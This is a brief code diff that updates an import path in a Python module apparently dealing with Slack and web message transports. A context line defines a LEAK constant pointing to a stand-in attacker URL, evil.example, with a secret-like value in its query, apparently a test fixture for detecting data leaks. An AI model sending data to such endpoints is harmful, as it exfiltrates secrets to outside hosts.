@@ -16,7 +16,7 @@ from transports.slack.app import Manners
 from transports.slack.outgoing.addresses import before_address, find_address
 from transports.slack.outgoing.canvas import Canvas, Tempo
 from transports.slack.outgoing.formatting import Pings
-from transports.web.outbound import render_markdown
+from transports.web.outgoing.outbound import render_markdown
 from transports.web.pages import HEADERS
 
 LEAK = "https://evil.example/?d=swordfish"
